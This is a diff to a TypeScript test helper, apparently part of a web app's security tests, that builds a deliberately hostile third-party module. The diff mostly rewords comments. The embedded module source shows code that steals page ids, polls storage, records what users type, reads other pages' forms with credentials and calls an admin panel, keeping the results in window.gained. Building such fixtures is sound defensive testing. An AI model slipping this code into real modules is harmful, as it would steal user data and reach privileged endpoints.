@@ -1,13 +1,11 @@
 import { buildChanged } from './broken-modules.ts';
 
-/** Ids of what the server puts into the HTML for the page alone. */
+/** Ids that the server's HTML uses for the page itself. */
 export const borrowedIds = ['later', 'module-registry', 'first-data', 'device-keys'];
 
 /**
- * A matches module that passes every check and shows the matches as ever. Beside that it renders elements with
- * the ids of the page's own, notes what is typed and stored wherever its code runs, reaches for the forms from
- * there, and calls the admin site of the address that `attack` gets. What it gained stands in
- * `window.gained`.
+ * A matches module that passes every check and works. It also renders elements with the page's own ids, records typed
+ * and stored values, reads forms of other pages, and calls the admin site. What it gained is in `window.gained`.
  */
 const source = `import { createElement } from 'react';
 import good from './good.tsx';
@@ -37,7 +35,6 @@ function readStorage(): void {
 }
 
 
-/** Opens an address in a window and listens in there as long as it lets itself be touched. */
 function openAndListen(path: string): void {
   const opened = window.open(path);
   const reach = () => {
@@ -70,13 +67,12 @@ function frame(path: string): void {
   document.body.append(element);
 }
 
-/** Draws the form in this document, where its own code goes on. */
+/** Renders the form in this document, where its own code still runs. */
 function enterWithin(path: string): void {
   history.pushState({}, '', path);
   dispatchEvent(new PopStateEvent('popstate', { state: {} }));
 }
 
-/** Reads the HTML of a form, and whatever stands in it for that page alone. */
 async function readPage(path: string): Promise<void> {
   const response = await fetch(path, { credentials: 'include' });
   note('html', await response.text());
@@ -151,7 +147,6 @@ async function callBy(base: string, { method, path, body }: Call): Promise<void>
   }
 }
 
-/** Tries every call by every way, then the panel itself in a window and in a frame. */
 async function attack(port: string, calls: readonly Call[]): Promise<void> {
   const base = [location.protocol, '', location.hostname + ':' + port].join('/');
   for (const call of calls) await callBy(base, call);
@@ -167,7 +162,7 @@ function begin(): void {
   setInterval(readStorage, 200);
 }
 
-// It renders its page on the server too.
+// The module is rendered on the server too.
 if (typeof document !== 'undefined') begin();
 
 const borrowed = ${JSON.stringify(borrowedIds)}.map((id) =>
@@ -183,5 +178,4 @@ const routes = Object.fromEntries(
 export default { ...good, routes };
 `;
 
-/** Folder of its build, for `MODULE_DIRS`. */
 export const hostileBuild = (): Promise<string> => buildChanged('hostile', source);
